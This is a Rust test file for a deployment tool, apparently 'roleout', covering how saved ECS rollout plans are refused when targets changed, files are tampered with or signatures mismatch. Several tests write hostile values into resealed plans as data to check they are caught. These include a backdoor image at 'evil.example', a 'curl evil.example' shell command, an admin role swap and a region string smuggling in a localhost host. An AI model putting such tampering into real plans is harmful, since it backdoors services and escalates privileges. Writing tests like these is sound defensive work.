//! Saved plans: made in one job, carried out in another, and refused where a target moved in between.

use std::time::Duration;

use roleout::base::error::Error;
use roleout::base::exit::Exit;
use roleout::fleet::Outcome;
use roleout::plan::saved::{Origin, Saved, schema};
use roleout::run::saved_file;
use roleout::run::saved_plan::ApplyOptions;
use serde_json::{Value, json};

use crate::harness::{Directory, Ran, Scene, fleet, manifest};
use crate::processes::{Server, roleout};

const SCHEMA: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/docs/saved-plan.schema.json");
const WAVES: &str = "rollout:\n  timeout: 30m\n  waves:\n    - { name: canary, select: { ring: canary } }\n    \
                     - { name: rest, gate: manual, max_parallel: [1, 50%], bake: 1m }\n";

pub fn terms() -> ApplyOptions {
    ApplyOptions {
        dry_run: false,
        skip_blocked: false,
        skip_stale: false,
        max_age: Duration::from_secs(24 * 3600),
        no_verify: false,
        origin: Origin::default(),
    }
}

/// Plans and saves in one job; what was asked of AWS for it is forgotten.
pub async fn plan(scene: &Scene, name: &str) -> (Directory, Saved) {
    let directory = Directory::new(name);
    scene.sandbox.forget_calls();
    let ran = scene.planning().dry_run_to(directory.plan()).deploy().await;
    assert_eq!(ran.exit, Ok(Exit::Done), "{}", ran.said);
    assert_eq!(scene.sandbox.calls().writes, Vec::new());
    scene.sandbox.forget_calls();
    let saved = saved_file::read(&directory.plan()).expect("a saved plan");
    (directory, saved)
}

/// Carries a saved plan out in another job: it knows nothing of the first but the file.
pub async fn carry_out(scene: &Scene, saved: &Saved, terms: ApplyOptions) -> Ran {
    let (saved, start) = (saved.clone(), scene.start.clone());
    scene
        .ran(async |reach, view| crate::runs::apply(saved, reach, terms, start, view, scene.cancel.clone()).await)
        .await
}

fn move_target(scene: &Scene, account: &str) {
    let input = json!({ "cluster": "main", "service": "s0", "forceNewDeployment": true });
    scene.sandbox.call_as_operator(account, "eu-west-1", "UpdateService", &input).expect("an update");
}

pub fn error(ran: &Ran) -> &Error {
    ran.exit.as_ref().expect_err("refused")
}

#[tokio::test(start_paused = true)]
async fn a_saved_plan_ends_as_a_direct_deploy_does() {
    let rollout = "rollout: { timeout: 30m, waves: [ { name: canary, select: { ring: canary }, bake: 1m }, \
                   { name: rest, max_parallel: [1, 50%] } ] }\n";
    let direct = Scene::of(4, 2, rollout);
    let straight = direct.deploy().await;
    let scene = Scene::of(4, 2, rollout);
    let (_directory, saved) = plan(&scene, "as-direct").await;
    let ran = carry_out(&scene, &saved, terms()).await;
    assert_eq!((ran.code(), ran.count(Outcome::Succeeded)), (Exit::Done, 8), "{}", ran.said);
    assert_eq!(ran.code(), straight.code());
    let end = |ran: &Ran| ran.state.targets().map(|it| (it.target.clone(), it.runs.clone())).collect::<Vec<_>>();
    assert_eq!(end(&ran), end(&straight));
    let writes = |scene: &Scene| {
        let mut writes: Vec<_> = scene
            .sandbox
            .calls()
            .writes
            .into_iter()
            .map(|write| (write.account, write.operation, write.input))
            .collect();
        writes.sort_by_key(|(account, operation, input)| format!("{account} {operation} {input}"));
        writes
    };
    assert_eq!(writes(&scene), writes(&direct));
    // Nothing is left of it: carrying it out once more changes nothing.
    scene.sandbox.forget_calls();
    let again = carry_out(&scene, &saved, terms()).await;
    assert_eq!((again.code(), again.count(Outcome::Unchanged)), (Exit::Done, 8), "{}", again.said);
    assert_eq!(scene.sandbox.calls().writes, Vec::new());
}

#[tokio::test(start_paused = true)]
async fn a_target_that_moved_is_refused_alone_and_nothing_is_changed_anywhere() {
    let scene = Scene::of(4, 2, "").quick();
    let (_directory, saved) = plan(&scene, "moved").await;
    move_target(&scene, "a2");
    tokio::time::sleep(Duration::from_secs(600)).await;
    let ran = carry_out(&scene, &saved, terms()).await;
    let refused = error(&ran);
    assert_eq!(refused.exit, Exit::Blocked);
    let mut lines = refused.message.lines();
    assert_eq!(lines.next(), Some("1 target changed since the plan was made:"));
    let line = lines.next().unwrap_or_default();
    assert!(line.starts_with("  a2/eu-west-1/s0: its deployment was ecs-svc/"), "{line}");
    assert_eq!(lines.next(), None);
    assert!(refused.help.iter().any(|help| help.contains("--skip-stale")), "{:?}", refused.help);
    assert_eq!(scene.sandbox.calls().writes, Vec::new());
    assert!(ran.state.started_at().is_none(), "no run began");

    let ran = carry_out(&scene, &saved, ApplyOptions { skip_stale: true, ..terms() }).await;
    assert_eq!((ran.code(), ran.count(Outcome::Succeeded)), (Exit::Done, 7), "{}", ran.said);
    assert!(ran.said.contains("going on without these targets"), "{}", ran.said);
    let touched = |write: &roleout::sandbox::Write| {
        write.account == "200000000002" && write.input.get("service").is_some_and(|service| service == "s0")
    };
    assert!(!scene.sandbox.calls().writes.iter().any(touched));
}

#[tokio::test(start_paused = true)]
async fn what_moved_is_named_for_each_way_of_moving() {
    let scene = Scene::of(5, 1, "").quick();
    let (_directory, saved) = plan(&scene, "ways").await;
    let update = |account: &str, input: Value| {
        scene.sandbox.call_as_operator(account, "eu-west-1", "UpdateService", &input).expect("an update");
    };
    let live = scene.sandbox.service("a0", "eu-west-1", "main", "s0").expect("a service").task_definition;
    let mut other = scene.sandbox.task_definition("a0", "eu-west-1", &live).expect("a definition");
    other["containerDefinitions"][0]["image"] = json!("registry.example.com/s0:hotfix");
    for member in [
        "taskDefinitionArn",
        "revision",
        "status",
        "registeredAt",
        "registeredBy",
        "compatibilities",
        "requiresAttributes",
    ] {
        other.as_object_mut().expect("an object").shift_remove(member);
    }
    let registered =
        scene.sandbox.call_as_operator("a0", "eu-west-1", "RegisterTaskDefinition", &other).expect("a revision");
    let arn = registered["taskDefinition"]["taskDefinitionArn"].clone();
    update("a0", json!({ "cluster": "main", "service": "s0", "taskDefinition": arn }));
    tokio::time::sleep(Duration::from_secs(600)).await;
    update("a1", json!({ "cluster": "main", "service": "s0", "forceNewDeployment": true }));
    let delete = json!({ "cluster": "main", "service": "s0", "force": true });
    scene.sandbox.call_as_operator("a2", "eu-west-1", "DeleteService", &delete).expect("a deletion");
    let ran = carry_out(&scene, &saved, terms()).await;
    insta::with_settings!({ filters => [(r"ecs-svc/\d+", "ecs-svc/[id]"), (r"s0:\d+", "s0:[n]")] }, {
        insta::assert_snapshot!(error(&ran).message, @r"
        3 targets changed since the plan was made:
          a0/eu-west-1/s0: it ran s0:[n] (ecs-svc/[id]) and runs s0:[n] (ecs-svc/[id]) now
          a1/eu-west-1/s0: its deployment was ecs-svc/[id] and is ecs-svc/[id] now, of s0:[n] again, and in progress
          a2/eu-west-1/s0: the service is being deleted (DRAINING)
        ");
    });
    assert_eq!(scene.sandbox.calls().writes, Vec::new());
    let ran = carry_out(&scene, &saved, ApplyOptions { skip_stale: true, ..terms() }).await;
    assert_eq!((ran.code(), ran.count(Outcome::Succeeded)), (Exit::Done, 2), "{}", ran.said);
}

#[tokio::test(start_paused = true)]
async fn a_gate_splits_a_saved_plan_over_two_jobs() {
    let scene = Scene::of(3, 1, WAVES);
    let (_directory, saved) = plan(&scene, "gate").await;
    let ran = carry_out(&scene, &saved, terms()).await;
    assert_eq!((ran.code(), ran.count(Outcome::Succeeded)), (Exit::Gate, 1), "{}", ran.said);
    // The canary changed since the plan was made, by the plan: that is no reason to refuse.
    let mut scene = scene;
    scene.start.from = Some("rest".into());
    let ran = carry_out(&scene, &saved, terms()).await;
    assert_eq!((ran.code(), ran.count(Outcome::Succeeded)), (Exit::Done, 2), "{}", ran.said);
    assert_eq!(ran.outcome("a0/eu-west-1/s0"), Some(Outcome::Unchanged));

    scene.start.from = Some("rset".into());
    let ran = carry_out(&scene, &saved, terms()).await;
    assert_eq!(
        (error(&ran).exit, error(&ran).message.as_str()),
        (Exit::Usage, "--from: there is no wave `rset`; did you mean `rest`?")
    );
}

#[tokio::test(start_paused = true)]
async fn a_later_wave_is_refused_before_the_first_is_started() {
    let scene = Scene::of(3, 1, WAVES);
    let (_directory, saved) = plan(&scene, "later").await;
    move_target(&scene, "a2");
    let ran = carry_out(&scene, &saved, terms()).await;
    assert_eq!(error(&ran).exit, Exit::Blocked, "{}", ran.said);
    assert_eq!(scene.sandbox.calls().writes, Vec::new());
    // But one before the first wave of this run refuses nothing.
    let mut scene = Scene::of(3, 1, WAVES);
    let (_directory, saved) = plan(&scene, "earlier").await;
    move_target(&scene, "a0");
    scene.start.from = Some("rest".into());
    let ran = carry_out(&scene, &saved, terms()).await;
    assert_eq!((ran.code(), ran.count(Outcome::Succeeded)), (Exit::Done, 2), "{}", ran.said);
}

#[tokio::test(start_paused = true)]
async fn a_run_that_was_cancelled_is_taken_up_by_the_same_plan() {
    let scene = Scene::of(4, 1, "rollout: { timeout: 30m, waves: [ { name: all, max_parallel: 2 } ] }\n");
    let (_directory, saved) = plan(&scene, "taken-up").await;
    let cancel = scene.cancel.clone();
    let (ran, ()) = tokio::join!(carry_out(&scene, &saved, terms()), async {
        tokio::time::sleep(Duration::from_secs(20)).await;
        cancel.cancel(roleout::engine::cancel::Signal::Terminate);
    });
    assert_eq!((ran.count(Outcome::Detached), ran.count(Outcome::Cancelled)), (2, 2), "{}", ran.said);
    let scene = Scene { cancel: Default::default(), ..scene };
    let ran = carry_out(&scene, &saved, terms()).await;
    assert_eq!((ran.code(), ran.count(Outcome::Succeeded)), (Exit::Done, 4), "{}", ran.said);
    let updates = scene.sandbox.calls().operation("UpdateService");
    assert_eq!(updates, 4, "what was under way is followed, not started again");
}

#[tokio::test(start_paused = true)]
async fn settings_that_others_changed_since_are_named() {
    let keys = "    cluster: main\n    desired_count: 4\n    deployment: { maximum_percent: 150 }\n";
    let changed = manifest(3, 1, "").replace("    cluster: main\n", keys);
    let scene = Scene { fleet: fleet(&changed), ..Scene::of(3, 1, "").quick() };
    let (_directory, saved) = plan(&scene, "settings").await;
    let set = |account: &str, settings: Value| {
        let mut input = json!({ "cluster": "main", "service": "s0" });
        input.as_object_mut().expect("an object").extend(settings.as_object().expect("an object").clone());
        scene.sandbox.call_as_operator(account, "eu-west-1", "UpdateService", &input).expect("an update");
    };
    set("a0", json!({ "desiredCount": 10 }));
    set("a1", json!({ "deploymentConfiguration": { "maximumPercent": 300 } }));
    // What is as it is to be is no reason to refuse.
    set("a2", json!({ "desiredCount": 4, "deploymentConfiguration": { "maximumPercent": 150 } }));
    let ran = carry_out(&scene, &saved, terms()).await;
    assert_eq!(
        error(&ran).message,
        "2 targets changed since the plan was made:\n  a0/eu-west-1/s0: its desired count was 2 and is 10 now\n  \
         a1/eu-west-1/s0: its deployment's maximumPercent was 200 and is 300 now"
    );
    let ran = carry_out(&scene, &saved, ApplyOptions { skip_stale: true, ..terms() }).await;
    assert_eq!((ran.code(), ran.count(Outcome::Succeeded)), (Exit::Done, 1), "{}", ran.said);
}

#[tokio::test(start_paused = true)]
async fn an_old_plan_is_refused_before_anything_is_asked() {
    let scene = Scene::of(2, 1, "").quick();
    let (_directory, saved) = plan(&scene, "old").await;
    tokio::time::sleep(Duration::from_secs(25 * 3600)).await;
    let ran = carry_out(&scene, &saved, terms()).await;
    assert_eq!(error(&ran).exit, Exit::Blocked);
    assert_eq!(error(&ran).message, "the saved plan is 1day 1h old, and the most is 1day");
    assert_eq!(scene.sandbox.calls().operation("AssumeRole"), 0);
    // The ID token of the first job is long gone; the second has its own.
    let scene = scene.claims(roleout::sandbox::Claims::default());
    let ran = carry_out(&scene, &saved, ApplyOptions { max_age: Duration::from_secs(48 * 3600), ..terms() }).await;
    assert_eq!((ran.code(), ran.count(Outcome::Succeeded)), (Exit::Done, 2), "{}", ran.said);
}

#[tokio::test(start_paused = true)]
async fn an_account_that_cannot_be_reached_any_more_is_named_beside_what_moved() {
    let scene = Scene::of(4, 1, "").quick();
    let (_directory, saved) = plan(&scene, "unreachable").await;
    let arn = "arn:aws:iam::200000000001:role/leaf";
    assert!(scene.sandbox.change_role(arn, |role| role.trust["Statement"] = json!([])));
    move_target(&scene, "a2");
    let ran = carry_out(&scene, &saved, terms()).await;
    let refused = error(&ran);
    assert_eq!(refused.exit, Exit::Preflight);
    assert!(refused.message.contains("a1 (200000000001): hop 2 (leaf, "), "{refused}");
    assert!(refused.message.contains("a2/eu-west-1/s0: its deployment was"), "{refused}");
    let ran = carry_out(&scene, &saved, ApplyOptions { skip_stale: true, ..terms() }).await;
    assert_eq!(error(&ran).exit, Exit::Preflight);
    let ran = carry_out(&scene, &saved, ApplyOptions { skip_blocked: true, ..terms() }).await;
    assert_eq!(error(&ran).exit, Exit::Blocked);
    assert_eq!(scene.sandbox.calls().writes, Vec::new());
    let ran = carry_out(&scene, &saved, ApplyOptions { skip_blocked: true, skip_stale: true, ..terms() }).await;
    assert_eq!((ran.code(), ran.count(Outcome::Succeeded)), (Exit::Done, 2), "{}", ran.said);
}

#[tokio::test(start_paused = true)]
async fn a_plan_with_blocked_targets_is_saved_only_if_they_may_be_skipped() {
    let scene = Scene::of(3, 1, "").quick();
    move_target(&scene, "a1");
    let directory = Directory::new("blocked");
    let ran = scene.planning().dry_run_to(directory.plan()).deploy().await;
    assert_eq!(error(&ran).exit, Exit::Blocked);
    assert!(error(&ran).help.iter().any(|help| help.starts_with("no plan was saved")), "{:?}", error(&ran).help);
    assert!(!directory.plan().exists());
    let mut job = scene.planning().dry_run_to(directory.plan());
    job.choice.skip_blocked = true;
    let ran = job.deploy().await;
    assert_eq!(ran.exit, Ok(Exit::Done));
    let saved = saved_file::read(&directory.plan()).expect("a saved plan");
    tokio::time::sleep(Duration::from_secs(600)).await;
    let ran = carry_out(&scene, &saved, terms()).await;
    assert_eq!((ran.code(), ran.count(Outcome::Succeeded)), (Exit::Done, 2), "{}", ran.said);
}

#[tokio::test(start_paused = true)]
async fn comparing_reads_in_batches_what_has_work_and_writes_nothing() {
    let scene = Scene::of(10, 10, "").quick();
    let (_directory, saved) = plan(&scene, "batches").await;
    let ran = carry_out(&scene, &saved, ApplyOptions { dry_run: true, ..terms() }).await;
    assert_eq!(ran.exit, Ok(Exit::Done), "{}", ran.said);
    let calls = scene.sandbox.calls();
    assert_eq!((calls.operation("DescribeServices"), calls.operation("DescribeTaskDefinition")), (10, 100));
    assert_eq!((calls.operation("AssumeRoleWithWebIdentity"), calls.writes.len()), (1, 0));
    // Where nothing is to be done nothing is read.
    let _ = scene.deploy().await;
    let (_directory, saved) = plan(&scene, "nothing").await;
    let ran = carry_out(&scene, &saved, terms()).await;
    assert_eq!((ran.code(), ran.count(Outcome::Unchanged)), (Exit::Done, 100), "{}", ran.said);
    assert_eq!(scene.sandbox.calls().operation("DescribeServices"), 0);
}

#[tokio::test(start_paused = true)]
async fn a_cut_edited_or_foreign_file_is_refused_and_says_what_it_is() {
    let scene = Scene::of(2, 1, "").quick();
    let (directory, _) = plan(&scene, "files").await;
    let path = directory.plan();
    let text = fs_err::read_to_string(&path).expect("a file");
    for (content, says) in [
        (text[..text.len() - 40].to_owned(), "the saved plan is truncated"),
        (text.replace("registry.example.com/s0:v2", "registry.example.com/s0:v3"), "was changed after it was written"),
        (text.replace("\"version\": 3", "\"version\": 2"), "has version 2, and this roleout reads version 3"),
        ("version: 1\naccounts: []\n".to_owned(), "this is not a saved plan"),
        (String::new(), "the saved plan is truncated"),
    ] {
        fs_err::write(&path, content).expect("written");
        let error = saved_file::read(&path).expect_err(says);
        assert_eq!(error.exit, Exit::Blocked, "{says}");
        assert!(error.message.contains(says) && error.message.contains("plan.json: "), "{says}: {error}");
        assert_eq!(error.help.len(), 1, "{says}");
    }
    fs_err::write(&path, b"\xff\xfe").expect("written");
    assert_eq!(saved_file::read(&path).expect_err("no text").exit, Exit::Blocked);
    assert_eq!(saved_file::read(&directory.0.join("none.json")).expect_err("no file").exit, Exit::Usage);
    let rest: Vec<_> = fs_err::read_dir(&directory.0).expect("a directory").collect();
    assert_eq!(rest.len(), 1, "no temporary file is left");
}

#[tokio::test(start_paused = true)]
async fn the_file_is_valid_by_its_schema_and_holds_no_token() {
    let scene = Scene::of(2, 2, WAVES).quick();
    let (directory, _) = plan(&scene, "schema").await;
    let text = fs_err::read_to_string(directory.plan()).expect("a file");
    let validator = jsonschema::validator_for(&schema()).expect("a JSON Schema");
    let file: Value = serde_json::from_str(&text).expect("JSON");
    let faults: Vec<String> =
        validator.iter_errors(&file).map(|fault| format!("{}: {fault}", fault.instance_path())).collect();
    assert_eq!(faults, Vec::<String>::new());
    let token = secrecy::ExposeSecret::expose_secret(&scene.token);
    assert!(text.contains("\"token_env\": \"TOKEN\"") && !text.contains(token));
    assert!(!text.contains("ASIA") && !text.contains("AKIA"), "no access key");
}

/// Tools read the schema from the repository. `ROLEOUT_BLESS=1 cargo test --test deploy` writes it anew.
#[test]
fn the_schema_in_the_repository_is_the_current_one() {
    let current = format!("{}\n", serde_json::to_string_pretty(&schema()).expect("a schema is JSON"));
    if std::env::var_os("ROLEOUT_BLESS").is_some() {
        fs_err::write(SCHEMA, &current).expect("the schema is written");
    }
    let stored = fs_err::read_to_string(SCHEMA).unwrap_or_default();
    assert!(stored == current, "docs/saved-plan.schema.json is out of date: run with ROLEOUT_BLESS=1");
}

/// Writes a plan anew after a change of its JSON, with the digest that belongs to it, as anybody can.
pub fn resealed(directory: &Directory, change: impl FnOnce(&mut Value)) -> Result<Saved, Error> {
    use sha2::Digest as _;

    let text = fs_err::read_to_string(directory.plan()).expect("a file");
    let mut file: Value = serde_json::from_str(&text).expect("JSON");
    change(&mut file);
    file.as_object_mut().expect("an object").shift_remove("digest");
    let body = file.to_string();
    let open = body.strip_suffix('}').expect("an object");
    let digest: String = sha2::Sha256::digest(open).iter().map(|byte| format!("{byte:02x}")).collect();
    let path = directory.0.join("changed.json");
    fs_err::write(&path, format!("{open},\"digest\":\"sha256:{digest}\"}}")).expect("written");
    saved_file::read(&path)
}

#[tokio::test(start_paused = true)]
async fn a_changed_plan_with_a_new_digest_is_refused_wherever_its_work_is_not_what_it_shows() {
    let scene = Scene::of(2, 1, "rollout: { timeout: 30m, waves: [ { name: all, max_parallel: 1 } ] }\n").quick();
    let (directory, _) = plan(&scene, "untrue").await;
    type Change = fn(&mut Value);
    let changes: [(&str, Change); 9] = [
        ("an image", |file| {
            file["targets"][1]["work"]["definition"]["definition"]["containerDefinitions"][0]["image"] =
                json!("evil.example/backdoor:1");
        }),
        ("a role", |file| {
            file["targets"][1]["work"]["definition"]["definition"]["taskRoleArn"] =
                json!("arn:aws:iam::200000000001:role/admin");
        }),
        ("a command", |file| {
            file["targets"][1]["work"]["definition"]["definition"]["containerDefinitions"][0]["command"] =
                json!(["sh", "-c", "curl evil.example"]);
        }),
        ("a count", |file| file["targets"][0]["work"]["desired_count"] = json!(40)),
        ("a setting", |file| file["targets"][0]["work"]["deployment"] = json!({ "maximumPercent": 500 })),
        ("a task", |file| {
            let task = json!({ "name": "x", "per": "target", "task_definition": null, "container": "app",
                "command": ["id"], "environment": {}, "timeout": "1m", "network": null, "launch": null });
            file["targets"][0]["work"]["run_tasks"] = json!({ "before": [task], "after": [] });
        }),
        ("a tag", |file| {
            file["targets"][0]["work"]["definition"]["tags"] = json!([{ "key": "team", "value": "evil" }]);
        }),
        ("a rollback", |file| {
            let arn = "arn:aws:ecs:eu-west-1:200000000000:task-definition/s0:999";
            file["targets"][0]["work"]["definition"] = json!({ "kind": "existing", "arn": arn, "force": false });
            file["outline"]["changes"][0]["action"] = json!({ "kind": "deploy" });
        }),
        ("a service", |file| {
            file["outline"]["changes"][0]["summary"] = json!(["app: image a -> b"]);
        }),
    ];
    for (what, change) in changes {
        let saved = resealed(&directory, change).unwrap_or_else(|error| panic!("{what}: {error}"));
        for dry_run in [true, false] {
            let ran = carry_out(&scene, &saved, ApplyOptions { dry_run, ..terms() }).await;
            assert_eq!(error(&ran).exit, Exit::Blocked, "{dry_run}: {what}: {}", ran.said);
            assert!(error(&ran).message.contains("its outline contradicts its work"), "{dry_run}: {what}");
            assert_eq!(scene.sandbox.calls().writes, Vec::new(), "{dry_run}: {what}");
        }
    }
    // What contradicts itself without a look at AWS is not read at all.
    let contradictions: [(&str, Change); 6] = [
        ("the waves' width", |file| file["waves"][0]["max_parallel"] = json!({ "window": { "percent": 100 } })),
        ("the waves' budget", |file| file["waves"][0]["max_failures"] = json!({ "count": 2 })),
        ("the order", |file| file["outline"]["changes"].as_array_mut().expect("a list").reverse()),
        ("the cluster", |file| file["targets"][0]["cluster"] = json!("other")),
        ("the action", |file| file["outline"]["changes"][0]["action"] = json!({ "kind": "update" })),
        ("a region", |file| file["identity"]["region"] = json!("a@127.0.0.1:9443/")),
    ];
    for (what, change) in contradictions {
        let error = resealed(&directory, change).expect_err(what);
        assert_eq!(error.exit, Exit::Blocked, "{what}");
        assert!(error.message.contains("the saved plan contradicts itself"), "{what}: {error}");
    }
}

#[tokio::test(start_paused = true)]
async fn a_plan_that_names_another_host_as_a_bucket_is_refused() {
    let scene = Scene::of(1, 1, "").quick();
    let (directory, _) = plan(&scene, "hosts").await;
    for (bucket, region, is_refused) in
        [("states", "eu-west-1", false), ("states", "a@127.0.0.1:9443/", true), ("127.0.0.1/x", "eu-west-1", true)]
    {
        let state = json!({ "s3": { "bucket": bucket, "key": "net", "region": region } });
        let value = json!({ "reference": "${tfstate:output.a}", "value": "a", "source": "", "state": state });
        let read = resealed(&directory, |file| file["targets"][0]["work"]["values"] = json!([value]));
        let said = read.err().map(|error| error.message).unwrap_or_default();
        assert_eq!(said.contains("is no bucket of S3"), is_refused, "{bucket} {region}: {said}");
    }
}

#[tokio::test(start_paused = true)]
async fn what_a_changed_plan_does_is_what_is_shown_and_reported() {
    let scene = Scene::of(1, 1, "").quick();
    let (directory, _) = plan(&scene, "told").await;
    // Whoever changes both is seen: image and outline agree.
    let evil = "evil.example/backdoor:1";
    let saved = resealed(&directory, |file| {
        let work = &mut file["targets"][0]["work"]["definition"]["definition"]["containerDefinitions"][0]["image"];
        let old = work.as_str().expect("an image").to_owned();
        *work = json!(evil);
        let outline = file["outline"].to_string().replace(&old, evil);
        file["outline"] = serde_json::from_str(&outline).expect("JSON");
    });
    let ran = carry_out(&scene, &saved.expect("it agrees"), terms()).await;
    assert_eq!(ran.code(), Exit::Done, "{}", ran.said);
    assert!(ran.said.contains(&format!("+ image: {evil}")), "the grouped diff is shown: {}", ran.said);
    assert!(ran.said.contains("identity: the ID token in TOKEN"), "{}", ran.said);
    let told = serde_json::to_string(&ran.events[0]).expect("JSON");
    assert!(told.contains(evil), "the journal has it: {told}");
}

#[tokio::test(start_paused = true)]
async fn a_plan_of_another_project_is_refused_and_one_of_another_pipeline_told() {
    let scene = Scene::of(1, 1, "").quick();
    let (_directory, saved) = plan(&scene, "origin").await;
    let origin = |project: &str, pipeline: &str| Origin {
        project: Some(project.to_owned()),
        pipeline: Some(pipeline.to_owned()),
        commit: None,
    };
    let saved = saved.bound_to(origin("1", "5"));
    let ran = carry_out(&scene, &saved, ApplyOptions { origin: origin("2", "5"), ..terms() }).await;
    assert_eq!(error(&ran).exit, Exit::Blocked);
    assert_eq!(error(&ran).message, "the saved plan was made in the project 1, and this job is of the project 2");
    assert_eq!(scene.sandbox.calls().operation("AssumeRole"), 0);
    let ran = carry_out(&scene, &saved, ApplyOptions { origin: origin("1", "6"), ..terms() }).await;
    assert_eq!(ran.code(), Exit::Done, "{}", ran.said);
    assert!(ran.said.contains("warning: the saved plan was made by another job: pipeline 5 and not 6"), "{}", ran.said);
}

#[test]
fn the_binary_signs_plans_and_refuses_those_of_another_key() {
    let directory = Directory::new("signed");
    let here = directory.0.as_path();
    fs_err::write(here.join("deploy.yaml"), manifest(1, 1, "")).expect("written");
    let server = Server::start(here);
    let token = fs_err::read_to_string(here.join("token")).expect("a token");
    let (good, other) = ("0123456789abcdef0123456789abcdef", "fedcba9876543210fedcba9876543210");
    let run = |arguments: &[&str], variables: &[(&str, &str)]| {
        let mut command = roleout(here);
        command.args(arguments).env("AWS_ENDPOINT_URL", server.url()).env("TOKEN", &token);
        let output = command.envs(variables.iter().copied()).output().expect("it runs");
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(!said.contains(good) && !said.contains(other), "{said}");
        (output.status.code(), said)
    };
    let sign = ["plan", "--out", "plan.json", "--sign-env", "PLAN_KEY"];
    let (code, said) = run(&sign, &[]);
    assert!(code == Some(2) && said.contains("the variable PLAN_KEY: is not set"), "{said}");
    let (code, said) = run(&sign, &[("PLAN_KEY", "secret")]);
    assert!(code == Some(2) && said.contains("the key is weak"), "{said}");
    assert!(!directory.plan().exists());
    assert_eq!(run(&["plan", "--out", "plan.json"], &[]).0, Some(0));
    let deploy = ["deploy", "plan.json"];
    let keyed = |key| [("PLAN_KEY", key), ("ROLEOUT_SIGN_ENV", "PLAN_KEY")];
    let (code, said) = run(&deploy, &keyed(good));
    assert!(code == Some(5) && said.contains("the saved plan is not signed"), "{said}");
    assert_eq!(run(&sign, &[("PLAN_KEY", good)]).0, Some(0));
    assert!(!fs_err::read_to_string(directory.plan()).expect("a plan").contains(good));
    let (code, said) = run(&deploy, &keyed(other));
    assert!(code == Some(5) && said.contains("was not made with this key"), "{said}");
    let (code, said) = run(&deploy, &[("ROLEOUT_SIGN_ENV", "PLAN_KEY")]);
    assert!(code == Some(2) && said.contains("is not set"), "{said}");
    let (code, said) = run(&deploy, &keyed(good));
    assert_eq!(code, Some(0), "{said}");
}

#[tokio::test(start_paused = true)]
async fn what_was_looked_up_and_is_another_value_by_now_is_a_note() {
    let more = "    environment: { app: { A: \"${ssm:/a}\", B: \"${ssm:/b}\", C: \"${tfstate:output.c}\" } }\n    pin: digest\n";
    let image = "${account.id}.dkr.ecr.${region}.amazonaws.com/s0:v2";
    let text = manifest(2, 1, "").replace("    cluster: main\n", &format!("    cluster: main\n{more}"));
    let text = text.replace("registry.example.com/s0:v2", image);
    let text = text.replace("services:", "tfstate: { net: { s3: { bucket: acme-states, key: net } } }\nservices:");
    let scene = Scene::new(&text).quick();
    let (_directory, saved) = plan(&scene, "values").await;
    let ran = carry_out(&scene, &saved, ApplyOptions { dry_run: true, ..terms() }).await;
    assert!(!ran.said.contains("when the plan was made"), "{}", ran.said);
    let place = ("200000000001", "eu-west-1");
    scene.sandbox.put_parameter(place, "/a", "String", "new");
    scene.sandbox.remove_parameter(place, "/b");
    scene.sandbox.put_object("eu-west-1", "acme-states", "net", r#"{"version":4,"outputs":{"c":{"value":"other"}}}"#);
    scene.sandbox.push_image("200000000001.dkr.ecr.eu-west-1.amazonaws.com/s0:v2", "another build");
    let ran = carry_out(&scene, &saved, terms()).await;
    assert_eq!((ran.code(), ran.count(Outcome::Succeeded)), (Exit::Done, 2), "{}", ran.said);
    for wanted in [
        "${ssm:/a} was sandbox-a when the plan was made, and is new now: the plan's is deployed (a1/eu-west-1/s0)",
        "${ssm:/b} could not be read again: the SSM parameter /b does not exist in eu-west-1 (a1/eu-west-1/s0)",
        "${tfstate:output.c} was sandbox-c when the plan was made, and is other now: the plan's is deployed \
         (a0/eu-west-1/s0, a1/eu-west-1/s0)",
        "the tag ${account.id}.dkr.ecr.${region}.amazonaws.com/s0:v2 was sha256:",
    ] {
        assert!(ran.said.contains(wanted), "{wanted}: {}", ran.said);
    }
    let definition = scene.sandbox.task_definition("a1", "eu-west-1", "s0").expect("the newest");
    assert!(definition.to_string().contains("sandbox-a"), "the plan's is deployed");
    // What is carried out already has no work, and nothing is asked for it.
    scene.sandbox.forget_calls();
    let again = carry_out(&scene, &saved, terms()).await;
    assert_eq!((again.code(), scene.sandbox.calls().operation("GetParameters")), (Exit::Done, 0), "{}", again.said);
}
